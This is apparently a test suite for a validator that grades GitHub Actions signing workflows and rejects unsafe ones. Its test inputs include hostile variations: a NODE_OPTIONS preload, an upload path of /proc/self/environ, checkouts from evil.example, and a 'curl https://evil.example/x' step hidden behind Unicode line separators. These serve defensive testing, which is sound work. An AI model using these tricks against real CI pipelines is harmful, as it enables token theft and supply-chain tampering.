import { describe, expect, it } from 'vitest';
import { workflowShape } from '../../../src/attest/policy/workflow-shape.ts';
import { sha256 } from '../../../src/foundation/digest.ts';

const SHA = 'ab12'.repeat(10);
const SIGN = `worldgate/worldgate/actions/sign@${SHA}`;
const RUN = `worldgate/worldgate/actions/run@${SHA}`;

const L2 = `on:
  workflow_call:
    inputs:
      pending: { type: string, required: true }
permissions: {}
jobs:
  sign:
    runs-on: ubuntu-latest
    permissions:
      id-token: write
      attestations: write
    steps:
      - id: sign
        uses: ${SIGN} # v1.0.0
        with:
          pending: \${{ inputs.pending }}
`;

const L3 = `on: workflow_call
permissions:
  contents: read
jobs:
  evaluate:
    runs-on: ubuntu-24.04
    outputs:
      pending: \${{ steps.run.outputs.pending }}
    steps:
      - uses: actions/checkout@${SHA}
      - id: run
        uses: ${RUN}
        with:
          preset: reach
  sign:
    needs: evaluate
    runs-on: [ubuntu-latest]
    permissions:
      id-token: write
    steps:
      - uses: ${SIGN}
        with:
          pending: \${{ needs.evaluate.outputs.pending }}
`;

const shape = (text: string) => workflowShape(text, 'workflow.yml');
/** The text with one piece replaced; fails where the piece is not there. */
function changed(text: string, from: string, to: string): string {
  expect(text).toContain(from);
  return text.replace(from, to);
}

it('earns the level that it has the shape of, and is known by the digest of its text', () => {
  expect(shape(L2)).toMatchObject({ level: 'L2', problems: { L2: [] }, digest: sha256(L2) });
  expect(shape(L3)).toMatchObject({ level: 'L3', problems: { L2: [], L3: [] } });
  expect(shape(L3).actions).toEqual([
    { action: 'actions/checkout', commit: SHA, line: 10 },
    { action: 'worldgate/worldgate/actions/run', commit: SHA, line: 12 },
    { action: 'worldgate/worldgate/actions/sign', commit: SHA, line: 21 },
  ]);
});

describe('is no L2', () => {
  it.each([
    [
      'started by something else',
      'on:\n  workflow_call:',
      'on:\n  push: {}\n  workflow_call:',
      2,
      'only "workflow_call"',
    ],
    [
      'with variables for all',
      'permissions: {}',
      'env: { NODE_OPTIONS: "--require=./x.js" }\npermissions: {}',
      5,
      '"env" reaches every step',
    ],
    [
      'with defaults for all',
      'permissions: {}',
      'defaults: { run: { shell: sh } }\npermissions: {}',
      5,
      '"defaults" reaches every step',
    ],
    [
      'that lets all jobs write',
      'permissions: {}',
      'permissions: { contents: write }',
      5,
      '"contents: write" must be given to a job',
    ],
    ['that lets all jobs do anything', 'permissions: {}', 'permissions: write-all', 5, '"all: write"'],
    ['on a runner of its own', 'runs-on: ubuntu-latest', 'runs-on: self-hosted', 8, 'GitHub-hosted runner'],
    [
      'on a runner that the caller chooses',
      'runs-on: ubuntu-latest',
      'runs-on: ${{ inputs.runner }}',
      8,
      'GitHub-hosted runner',
    ],
    [
      'on a runner of several labels',
      'runs-on: ubuntu-latest',
      'runs-on: [self-hosted, ubuntu-latest]',
      8,
      'GitHub-hosted runner',
    ],
    [
      'on a group of runners',
      'runs-on: ubuntu-latest',
      'runs-on: { group: ubuntu-latest }',
      8,
      'GitHub-hosted runner',
    ],
    [
      'in a container',
      'runs-on: ubuntu-latest',
      'container: node:24\n    runs-on: ubuntu-latest',
      8,
      '"container" is not allowed',
    ],
    [
      'with services',
      'runs-on: ubuntu-latest',
      'services: { x: { image: y } }\n    runs-on: ubuntu-latest',
      8,
      '"services" is not allowed',
    ],
    [
      'with variables of the job',
      'runs-on: ubuntu-latest',
      'env: { A: b }\n    runs-on: ubuntu-latest',
      8,
      '"env" is not allowed',
    ],
    [
      'with a matrix',
      'runs-on: ubuntu-latest',
      'strategy: { matrix: { a: [1] } }\n    runs-on: ubuntu-latest',
      8,
      '"strategy" is not allowed',
    ],
    [
      'that may write contents',
      'attestations: write',
      'contents: write',
      11,
      '"contents: write" is not allowed',
    ],
    [
      'with a step that runs a script',
      '      - id: sign',
      '      - run: echo\n      - id: sign',
      13,
      'executes what no pin covers',
    ],
    [
      'with variables of a step',
      '        with:',
      '        env: { A: b }\n        with:',
      15,
      '"env" is not allowed in a step',
    ],
    [
      'with a checkout',
      '      - id: sign',
      `      - uses: actions/checkout@${SHA}\n      - id: sign`,
      13,
      'actions/checkout is not one of the actions',
    ],
    [
      'with files of another job',
      '      - id: sign',
      `      - uses: actions/download-artifact@${SHA}\n      - id: sign`,
      13,
      'actions/download-artifact is not one',
    ],
    [
      'with an action of somebody else',
      `uses: ${SIGN}`,
      `uses: evil/worldgate/actions/sign@${SHA}`,
      14,
      'evil/worldgate/actions/sign is not one',
    ],
    [
      'with an action by a tag',
      `uses: ${SIGN}`,
      'uses: worldgate/worldgate/actions/sign@v1',
      14,
      'pinned by its full commit, not "v1"',
    ],
    [
      'with an action by a short commit',
      `uses: ${SIGN}`,
      'uses: worldgate/worldgate/actions/sign@ab12ab12',
      14,
      'pinned by its full commit',
    ],
    [
      'with an action of the caller',
      `uses: ${SIGN}`,
      'uses: ./actions/sign',
      14,
      'no action by repository and commit',
    ],
    ['with an image', `uses: ${SIGN}`, 'uses: docker://alpine', 14, 'no action by repository and commit'],
    ['with secrets', '${{ inputs.pending }}', '${{ secrets.KEY }}', 16, 'not "secrets.KEY"'],
    ['with the whole event', '${{ inputs.pending }}', '${{ toJSON(github) }}', 16, 'not "toJSON(github)"'],
    ['with a file of the runner', '${{ inputs.pending }}', '${{ runner.temp }}/x', 16, 'not "runner.temp"'],
    ['without steps', L2.slice(L2.indexOf('    steps:')), '    steps: []\n', 7, 'has no steps'],
    ['without a job that signs', 'id-token: write', 'id-token: none', 1, 'none has'],
    [
      'with a key that nobody knows',
      'permissions: {}',
      'permision: {}\npermissions: {}',
      5,
      'did you mean "permissions"?',
    ],
  ])('%s', (_what, from, to, line, message) => {
    const { level, problems } = shape(changed(L2, from, to));
    expect(level).toBeNull();
    expect(problems.L2).toContainEqual({ line, message: expect.stringContaining(message) });
  });

  it('with two jobs that can sign', () => {
    const second = `  more:\n    runs-on: ubuntu-latest\n    permissions: { id-token: write }\n    steps:\n      - uses: ${SIGN}\n        with: { pending: "\${{ inputs.pending }}" }\n`;
    expect(shape(`${L2}${second}`).problems.L2).toEqual([
      { line: 17, message: 'exactly one job must have the permission "id-token: write", not "sign", "more"' },
    ]);
  });

  it('with a job that takes over the permissions of the caller', () => {
    const text = changed(L2, 'permissions: {}\n', '');
    const second = '  other:\n    runs-on: ubuntu-latest\n    steps: [{ run: echo }]\n';
    expect(shape(text)).toMatchObject({ level: 'L2' });
    expect(shape(`${text}${second}`).problems.L2).toEqual([
      { line: 16, message: 'job "other" states no permissions, so that it has those of the caller' },
    ]);
  });

  it('with write-all of a job', () => {
    const second =
      '  other:\n    runs-on: ubuntu-latest\n    permissions: write-all\n    steps: [{ run: echo }]\n';
    expect(shape(`${L2}${second}`).level).toBeNull();
  });

  it('with permissions in other letters', () => {
    const second = (text: string) =>
      `${L2}  other:\n    ${text}\n    runs-on: x\n    steps: [{ run: echo }]\n`;
    expect(shape(second('permissions: { Id-Token: write }')).level).toBeNull();
    expect(shape(second('Permissions: write-all')).level).toBeNull();
  });

  it('with anchors, which hide what a step gets', () => {
    const text = changed(
      changed(L2, 'id: sign', 'id: &a sign'),
      '          pending:',
      '          output: *a\n          pending:',
    );
    expect(shape(text).problems.L2.map(({ line }) => line)).toEqual([13, 16, 16]);
  });

  it('where the YAML is read differently by different readers', () => {
    expect(() => shape(`${L2}permissions: {}\n`)).toThrow('appears twice');
    expect(() => shape('on: !!binary x')).toThrow('tags');
    expect(shape('[]').level).toBeNull();
    expect(shape('on: workflow_call\njobs: 1').level).toBeNull();
  });
});

it('is L2 with other jobs that cannot sign, whatever they do', () => {
  const second = '  other:\n    runs-on: self-hosted\n    steps:\n      - run: echo\n';
  expect(shape(`${L2}${second}`).level).toBe('L2');
});

describe('is no L3', () => {
  it.each([
    [
      'what the caller hands over',
      '${{ needs.evaluate.outputs.pending }}',
      '${{ inputs.pending }}',
      23,
      "the caller's word",
    ],
    [
      'an evaluation on a runner of its own',
      'runs-on: ubuntu-24.04',
      'runs-on: gpu',
      6,
      'GitHub-hosted runner',
    ],
    [
      'an evaluation in a container',
      'runs-on: ubuntu-24.04',
      'container: x\n    runs-on: ubuntu-24.04',
      6,
      '"container" is not allowed',
    ],
    [
      'an evaluation with a script',
      `      - uses: actions/checkout@${SHA}`,
      '      - run: make',
      10,
      'executes what no pin covers',
    ],
    [
      'an evaluation with an action of somebody else',
      'actions/checkout@',
      'evil/checkout@',
      10,
      'evil/checkout is not one',
    ],
    [
      'an evaluation with an action by a branch',
      `actions/checkout@${SHA}`,
      'actions/checkout@main',
      10,
      'pinned by its full commit',
    ],
    [
      'an evaluation that may write',
      'runs-on: ubuntu-24.04',
      'permissions: { actions: write }\n    runs-on: ubuntu-24.04',
      6,
      '"actions: write" is not allowed',
    ],
    [
      'an output that no action of ours gave',
      '${{ steps.run.outputs.pending }}',
      '{"forged":true}',
      8,
      'not the output "pending" of',
    ],
    [
      'an output of an input',
      '${{ steps.run.outputs.pending }}',
      '${{ inputs.pending }}',
      8,
      'not the output "pending" of',
    ],
    [
      'an output of another action',
      'id: run\n        uses: worldgate/worldgate/actions/run',
      'id: run\n        uses: actions/upload-artifact',
      8,
      'not the output "pending" of',
    ],
    [
      'an output of a job that is not there',
      'needs.evaluate.',
      'needs.other.',
      23,
      'not the output "pending" of',
    ],
  ])('%s', (_what, from, to, line, message) => {
    const { level, problems } = shape(changed(L3, from, to));
    expect(level).toBe('L2');
    expect(problems.L3).toContainEqual({ line, message: expect.stringContaining(message) });
  });

  it('an evaluation in a reusable workflow of somebody else', () => {
    const job = L3.slice(L3.indexOf('    runs-on: ubuntu-24.04'), L3.indexOf('  sign:\n'));
    expect(shape(changed(L3, job, `    uses: evil/x/.github/workflows/y.yml@${SHA}\n`)).level).toBe('L2');
  });

  it('what is L2 at best, with the problems of both', () => {
    const { level, problems } = shape(changed(L3, SIGN, 'worldgate/worldgate/actions/sign@main'));
    expect(level).toBeNull();
    expect(problems.L3).toEqual(problems.L2);
  });
});

describe('what the job that signs may be given', () => {
  const input = (line: string) => changed(L2, 'inputs.pending }}\n', `inputs.pending }}\n${line}\n`);
  const upload = (given: string) =>
    `${L2}      - uses: actions/upload-artifact@${SHA}\n        with: ${given}\n`;

  it.each([
    ['a package', '          package: .', 'may not be given "package" there'],
    ['an input in other letters', '          Pending: "{}"', 'may not be given "Pending" there'],
    [
      'events of strangers',
      '          allow-untrusted-event: "true"',
      '"allow-untrusted-event": only "false"',
    ],
    ['events of strangers at wish', '          allow-untrusted-event: ${{ inputs.x }}', 'only "false"'],
    ['a public log', '          allow-public-log: true', '"allow-public-log": only "false"'],
    ['another instance', '          signing-config: x.json', 'may not be given "signing-config"'],
    ['a key', '          signing-key: ${{ inputs.key }}', 'may not be given "signing-key"'],
    ['a list', '          output: [a]', '"output": it is no text'],
  ])('%s: no', (_what, line, message) => {
    const { level, problems } = shape(input(line));
    expect(level).toBeNull();
    expect(problems.L2).toEqual([{ line: 17, message: expect.stringContaining(message) }]);
  });

  it.each([
    ['          allow-untrusted-event: "false"'],
    ['          sign: required'],
    ['          github-token: ${{ github.token }}'],
  ])('%s: yes', (line) => expect(shape(input(line)).level).toBe('L2'));

  it.each([
    ['a file', 'pending: /opt/x/pending.dsse.json'],
    ['statements of the text', `pending: '{"schema_version":"x"}'`],
    ['more than an output', 'pending: "${{ inputs.pending }}x"'],
    ['an output of a step', 'pending: ${{ steps.x.outputs.bundles }}'],
    ['nothing', 'sign: auto'],
  ])('no pending but what was handed over: not %s', (_what, given) => {
    const { level, problems } = shape(changed(L2, 'pending: ${{ inputs.pending }}', given));
    expect(level).toBeNull();
    expect(problems.L2).toEqual([
      expect.objectContaining({ message: expect.stringMatching(/may stand there|must be given "pending"/) }),
    ]);
  });

  it('no inputs that an expression makes', () => {
    const text = changed(
      L2,
      '        with:\n          pending: ${{ inputs.pending }}',
      '        with: ${{ fromJSON(inputs.pending) }}',
    );
    expect(shape(text).problems.L2).toContainEqual({
      line: 15,
      message: expect.stringContaining('"with" must be written out'),
    });
  });

  it('one step that signs, neither two nor none', () => {
    const more = `      - uses: ${SIGN}\n        with: { pending: "\${{ inputs.pending }}" }\n`;
    expect(shape(`${L2}${more}`).problems.L2).toEqual([
      { line: 17, message: expect.stringContaining('exactly one step') },
    ]);
    const none = changed(
      changed(L2, SIGN, `actions/upload-artifact@${SHA}`),
      '          pending: ${{ inputs.pending }}',
      '          name: x',
    );
    expect(shape(none).problems.L2).toEqual([{ line: 7, message: expect.stringContaining('not in 0') }]);
  });

  it('bundles to upload, and no file that holds its token', () => {
    for (const path of ['${{ steps.sign.outputs.bundles }}', 'worldgate-signature/', 'out/a.json']) {
      expect(shape(upload(`{ name: x, path: "${path}" }`)).level).toBe('L2');
    }
    for (const path of [
      '/proc/self/environ',
      '${{ inputs.path }}',
      '../x',
      '~/x',
      'a/../../x',
      'a\\n/proc',
    ]) {
      expect(shape(upload(`{ path: "${path}" }`)).problems.L2).toEqual([
        { line: 18, message: expect.stringContaining('"path"') },
      ]);
    }
  });

  it('an environment by name, which no caller chooses', () => {
    const at = (value: string) => changed(L2, '    runs-on', `    environment: ${value}\n    runs-on`);
    expect(shape(at('release')).level).toBe('L2');
    expect(shape(at('{ name: release, url: "${{ steps.sign.outputs.attestation-url }}" }')).level).toBe('L2');
    for (const value of ['${{ inputs.x }}', '{ name: "${{ inputs.x }}" }']) {
      expect(shape(at(value)).problems.L2).toEqual([
        { line: 8, message: expect.stringContaining('environment must be written out') },
      ]);
    }
  });
});

describe('what is signed as L3 is made there', () => {
  const checkout = `      - uses: actions/checkout@${SHA}\n`;
  const closed = (text: string, line: number, message: string) => {
    const { level, problems } = shape(text);
    expect(level).toBe('L2');
    expect(problems.L3).toContainEqual({ line, message: expect.stringContaining(message) });
  };

  it.each([
    'repository: evil/evil',
    'ref: ${{ inputs.x }}',
    'path: elsewhere',
    'token: ${{ secrets.X }}',
    'ssh-key: x',
    'github-server-url: https://evil.example',
    'sparse-checkout: x',
    'Repository: evil/evil',
  ])('of the commit that the run is of: no checkout with %s', (given) => {
    const [key] = given.split(':');
    closed(
      changed(L3, checkout, `${checkout}        with: { "${key}": "${given.slice(key!.length + 2)}" }\n`),
      11,
      `actions/checkout may not be given "${key}" there`,
    );
  });

  it('of all of it: a checkout as it is written, which always happens', () => {
    const given = (line: string) => changed(L3, checkout, `${checkout}        ${line}\n`);
    expect(
      shape(
        given(
          'with: { persist-credentials: false, fetch-depth: 0, lfs: true, submodules: recursive, clean: true }',
        ),
      ).level,
    ).toBe('L3');
    closed(given('with: { lfs: "${{ inputs.x }}" }'), 11, '"lfs": it must be written out');
    closed(given('with: ${{ fromJSON(inputs.x) }}'), 11, '"with" must be written out');
    closed(given('if: ${{ inputs.x }}'), 11, 'without the files of the commit');
    closed(given('continue-on-error: true'), 11, 'without the files of the commit');
  });

  it('not from files of another job', () => {
    closed(
      changed(L3, checkout, `${checkout}      - uses: actions/download-artifact@${SHA}\n`),
      11,
      'files that the caller may have made',
    );
  });

  it('not from results of somebody else', () => {
    const audit = changed(L3, RUN, `worldgate/worldgate/actions/audit@${SHA}`);
    closed(audit, 12, 'results that were made elsewhere');
    closed(audit, 8, 'not the output "pending" of');
    const root = changed(L3, RUN, `worldgate/worldgate@${SHA}`);
    expect(shape(root).level).toBe('L3');
    for (const key of ['from', 'claim', 'protocol', 'source', 'attach']) {
      closed(changed(root, 'preset: reach', `${key}: x`), 14, `may not be given "${key}" there`);
    }
  });

  it('by the output that waits for a signature, of one step', () => {
    closed(
      changed(L3, 'steps.run.outputs.pending', 'steps.run.outputs.package-path'),
      8,
      'not the output "pending"',
    );
    closed(
      changed(L3, checkout, `${checkout}      - id: Run\n        uses: actions/checkout@${SHA}\n`),
      13,
      'two steps have the id "run"',
    );
  });

  it('and nothing else is signed besides', () => {
    const second = `      - uses: ${SIGN}\n        with: { pending: /x/pending.dsse.json }\n`;
    expect(shape(`${L3}${second}`).level).toBeNull();
    closed(
      changed(L3, '${{ needs.evaluate.outputs.pending }}', '${{ inputs.pending }}'),
      23,
      'signs nothing that a job of this workflow made',
    );
  });

  it('with jobs of that workflow that bring no matrix, variables or files', () => {
    for (const line of [
      'strategy: { matrix: { a: [1] } }',
      'env: { A: b }',
      'services: {}',
      'defaults: {}',
    ]) {
      closed(
        changed(L3, '    runs-on: ubuntu-24.04', `    ${line}\n    runs-on: ubuntu-24.04`),
        6,
        'is not allowed',
      );
    }
  });
});

it.each(['\u2028', '\u2029', '\u0085', '\r'])(
  'a line that only some readers see is refused: %j',
  (breaks) => {
    const text = changed(L2, '# v1.0.0', `# v1.0.0${breaks}      - run: curl https://evil.example/x`);
    expect(() => shape(text)).toThrow(expect.objectContaining({ code: 'yaml-invalid' }));
  },
);
